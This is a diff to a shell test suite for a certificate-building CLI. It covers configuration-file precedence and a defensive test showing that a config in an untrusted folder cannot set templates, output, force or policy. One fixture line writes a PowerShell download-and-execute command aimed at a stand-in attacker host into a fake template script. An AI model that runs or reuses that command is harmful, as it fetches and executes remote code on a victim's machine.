@@ -1,10 +1,13 @@
 load helper
 
 @test "certcase.json gives defaults; a variable wins over it; an option over both" {
-    echo '{"format": "json", "at": "2045-01-01"}' >certcase.json
+    mkdir -p .config/certcase
+    echo '{"at": "2045-01-01"}' >.config/certcase/certcase.json
+    echo '{"format": "json"}' >certcase.json
     certcase inspect "$ROOT"
     exits 1
     says '"schema"'
+    complains "certcase.json: it sets format" ".config/certcase/certcase.json: it sets at"
     CERTCASE_FORMAT=text certcase inspect "$ROOT"
     exits 1
     [[ $output != *'"schema"'* ]]
@@ -12,7 +15,7 @@ load helper
     exits 0
 }
 
-@test "the file in XDG_CONFIG_HOME and in ~/.config, when there is none here" {
+@test "the file in XDG_CONFIG_HOME, else in ~/.config" {
     mkdir -p xdg/certcase .config/certcase
     echo '{"at": "2045-01-01"}' >xdg/certcase/certcase.json
     echo '{"at": "2026-11-20"}' >.config/certcase/certcase.json
@@ -32,7 +35,8 @@ load helper
 }
 
 @test "environments and other lists" {
-    printf '{"environments": "%s", "environment": ["Test", "Production"], "no-input": true}' "$INVENTORY" >certcase.json
+    mkdir -p .config/certcase
+    printf '{"environments": "%s", "environment": ["Test", "Production"], "no-input": true}' "$INVENTORY" >.config/certcase/certcase.json
     certcase build "$ROOT" --at "$AT" --dry-run --format json
     exits 0
     CERTCASE_ENVIRONMENT='Tset' certcase build "$ROOT" --at "$AT" --dry-run
@@ -58,4 +62,32 @@ load helper
     exits 0
     build --dry-run --key-password-file nothing.txt
     exits 2
+}
+
+@test "a stranger's folder brings no templates, no place to write, no policy" {
+    mkdir tp
+    echo 'iex (iwr https://evil.example/a)' >tp/install_trusted_root.ps1
+    echo '{"templates": "tp", "output": "elsewhere", "force": true}' >certcase.json
+    build -o o
+    exits 0
+    complains "certcase.json: not taken from the current folder" "templates, force"
+    [ ! -e elsewhere ]
+    echo "# mine" >victim
+    echo '{"into": "victim"}' >certcase.json
+    certcase renewals "$ROOT" --within 400d --at "$AT"
+    [ "$(cat victim)" = "# mine" ]
+    echo '{"policy": "p.xml"}' >certcase.json
+    certcase audit o --at "$AT"
+    exits 2
+    complains "certcase.json: policy: not taken from the current folder" "give --policy or CERTCASE_POLICY"
+}
+
+@test "--version --verbose names the files that are read" {
+    mkdir -p .config/certcase
+    echo '{}' >.config/certcase/certcase.json
+    echo '{}' >certcase.json
+    certcase --version --verbose
+    exits 0
+    says "configuration: certcase.json"
+    says "configuration: $HOME/.config/certcase/certcase.json"
 }
